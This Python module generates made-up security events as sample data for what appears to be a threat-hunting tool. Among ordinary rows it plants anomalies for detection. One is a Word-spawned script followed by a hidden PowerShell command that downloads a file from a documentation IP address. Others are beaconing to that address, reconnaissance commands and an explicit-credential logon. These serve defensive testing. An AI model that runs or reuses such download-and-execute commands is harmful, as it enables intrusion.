"""Made-up events for the app's sample lookups: what is usual, and a little that is not.

Addresses and names are those reserved for documentation.
"""

import numpy as np
import pandas as pd

from app.sample import SAMPLE

Events = pd.DataFrame
_HOUR = 3600
_USERS = ["a.novak", "m.keller", "s.lind"]
_HOSTS = ["WKS-014", "WKS-015", "WKS-016"]


def commands() -> Events:
    """The bundled sample, its times as seconds since 1970."""
    events = pd.read_csv(SAMPLE).rename(columns={"ParentCommandLine": "command"})
    seconds = pd.to_datetime(events["_time"]).map(pd.Timestamp.timestamp).astype(int)
    return events.assign(_time=seconds)


def process_starts() -> Events:
    """Usual programs on three hosts for twenty hours, and a document that starts a script."""
    usual = [("explorer.exe", "outlook.exe"), ("explorer.exe", "winword.exe"),
             ("svchost.exe", "dllhost.exe")]  # fmt: skip
    rows = [
        (_HOUR * hour, f"WKS-01{n}", 100 * n + k, 100 * n, parent, image, image)
        for hour in range(20)
        for n in (4, 5, 6)
        for k, (parent, image) in enumerate(usual, 1)
    ]
    script = "wscript.exe C:\\Users\\Public\\invoice.vbs"
    fetch = "powershell -w hidden -c iwr http://203.0.113.60/load -o x"
    rows += [
        (70_000, "WKS-015", 777, 502, "winword.exe", "wscript.exe", script),
        (70_001, "WKS-015", 778, 777, "wscript.exe", "powershell.exe", fetch),
    ]
    names = ["_time", "host", "ProcessId", "ParentProcessId", "ParentImage", "Image", "CommandLine"]
    starts = pd.DataFrame(rows, columns=names)
    return starts.assign(_time=starts["_time"] + _start())


def logons() -> Events:
    """Two weeks of logons per hour on two hosts, with a spike and an outage."""
    hours = pd.date_range("2026-02-16", periods=14 * 24, freq="h", tz="UTC")
    day = 1 + np.sin((hours.hour.to_numpy() - 9) / 24 * 2 * np.pi)
    usual = np.where(hours.dayofweek.to_numpy() > 4, 40, 100) * day + 20
    rng = np.random.default_rng(11)
    seconds = hours.map(pd.Timestamp.timestamp).astype(int)
    series = [
        pd.DataFrame({"_time": seconds, "host": host, "count": rng.poisson(usual)})
        for host in ("dc01.example.com", "dc02.example.com")
    ]
    series[0].loc[200, "count"] += 150
    series[1].loc[300, "count"] = 0
    return pd.concat(series, ignore_index=True)


def transfers() -> Events:
    """300 sessions, of which one is huge, and one has an application that nobody else uses."""
    rng = np.random.default_rng(7)
    sessions = pd.DataFrame(
        {
            "_time": _start() + 120 * np.arange(300),
            "bytes": rng.lognormal(8, 0.5, 300).round().astype(int),
            "duration": rng.exponential(3, 300).round(2),
            "app": rng.choice(["http", "dns"], 300, p=[0.8, 0.2]),
            "user": rng.choice(_USERS, 300),
        }
    )
    sessions.loc[110, "bytes"] = 50_000_000
    sessions.loc[220, "app"] = "rdp"
    return sessions


def connections() -> Events:
    """Two hours of people's connections at any time, and an agent's, each minute give or take."""
    rng = np.random.default_rng(4)
    names = ["mail.example.com", "www.example.org", "update.example.net"]
    people = pd.DataFrame(
        {
            "_time": rng.uniform(0, 2 * _HOUR, 200),
            "host": rng.choice(_HOSTS, 200),
            "dest": rng.choice(names, 200),
            "Image": "browser.exe",
        }
    )
    agent = pd.DataFrame({"_time": np.arange(120) * 60 + rng.uniform(-4, 4, 120)})
    agent = agent[rng.random(120) > 0.1]
    agent = agent.assign(host="WKS-015", dest="203.0.113.60", Image="powershell.exe")
    events = pd.concat([people, agent]).sort_values("_time", ignore_index=True)
    return events.assign(_time=(events["_time"] + _start()).astype(int))


def activities() -> Events:
    """What users start in their sessions, day by day; one session looks around instead."""
    mornings = ["outlook.exe", "winword.exe", "outlook.exe"]
    afternoons = ["outlook.exe", "excel.exe", "outlook.exe"]
    rows = [
        (day * 24 * _HOUR + hour * _HOUR + 20 * step, host, user, image)
        for day in range(7)
        for user, host in zip(_USERS, _HOSTS, strict=True)
        for hour, images in ((8, mornings), (14, afternoons))
        for step, image in enumerate(images)
    ]
    looking = ["whoami.exe", "nltest.exe", "net.exe", "powershell.exe"]
    night = 6 * 24 * _HOUR + 22 * _HOUR
    rows += [(night + 7 * n, "WKS-015", "m.keller", image) for n, image in enumerate(looking)]
    events = pd.DataFrame(rows, columns=["_time", "host", "user", "Image"])
    return events.assign(_time=events["_time"] + _start())


def accesses() -> Events:
    """Logons by accounts and services as they are each hour, and one with explicit credentials."""
    kinds = [
        ("a.novak", "2", "C:\\Windows\\System32\\winlogon.exe"),
        ("SYSTEM", "5", "C:\\Windows\\System32\\services.exe"),
        ("svc-backup", "3", "C:\\Windows\\System32\\svchost.exe"),
    ]
    rows = [(_HOUR // 2 * n, _HOSTS[n % 3], *kinds[n % 3]) for n in range(150)]
    rows.append((100_000, "WKS-015", "m.keller", "9", "C:\\Users\\Public\\runas.exe"))
    events = pd.DataFrame(rows, columns=["_time", "host", "user", "LogonType", "ProcessName"])
    return events.assign(_time=events["_time"] + _start())


def jobs() -> Events:
    """Two days of searches that the container answered, as Splunk's index _audit tells them."""
    rng = np.random.default_rng(3)
    hourly = pd.DataFrame({"_time": _start() + _HOUR * np.arange(48), "user": "splunk-system-user"})
    people = pd.DataFrame(
        {"_time": _start() + rng.integers(0, 48 * _HOUR, 24), "user": rng.choice(_USERS, 24)}
    )
    searches = pd.concat([hourly, people]).sort_values("_time", ignore_index=True)
    return searches.assign(
        info=rng.choice(["completed", "failed", "canceled"], 72, p=[0.92, 0.05, 0.03]),
        total_run_time=rng.lognormal(1.2, 0.6, 72).round(2),
        result_count=rng.integers(0, 4_000, 72),
    )


def logs() -> Events:
    """What a container has logged."""
    lines = [
        (0, "INFO", "listening on https://0.0.0.0:5000"),
        (9, "WARNING", "/apply: unable to load the model 'outliers_weekly'"),
        (21, "WARNING", "/apply: the client went away; its search is cancelled"),
        (33, "WARNING", "search: the token for Splunk expires in 5 days"),
        (40, "ERROR", "/fit: the answer breaks off"),
    ]
    rows = [(_start() + _HOUR * hours, "hunt-1", *said) for hours, *said in lines]
    return pd.DataFrame(rows, columns=["_time", "host", "level", "message"])


def status() -> Events:
    """How a container is: `| huntstatus`."""
    rows = [
        ("service", "version", "ok", "-", "-", "0.1.0, up 51.2 hours"),
        ("service", "workers", "ok", "-", "-", "4 of 4 run, 1 of them a search"),
        ("service", "disk", "ok", "-", "-", "31,744 of 40,960 MB are free"),
        ("service", "spool", "warning", "-", "-", "2 batches wait, 0 were rejected"),
        ("provider", "virustotal", "ok", "312", "81%", ""),
        ("provider", "otx", "ok", "no quota", "64%", ""),
        ("provider", "abuseipdb", "warning", "0", "47%", "the quota of today is used up"),
        ("provider", "greynoise", "off", "50", "-", "needs greynoise_api_key"),
        ("feed", "Example C2", "ok", "-", "-", "6 entries, indexed 3 hours ago"),
        ("feed", "Example names", "warning", "-", "-", "812 entries, indexed 9 days ago"),
        ("database", "example-asn.mmdb", "ok", "-", "-", "Example-ASN, built 2026-01-01"),
    ]
    return pd.DataFrame(rows, columns=["part", "name", "state", "left", "cached", "remarks"])


def _start() -> int:
    return int(commands()["_time"].min())
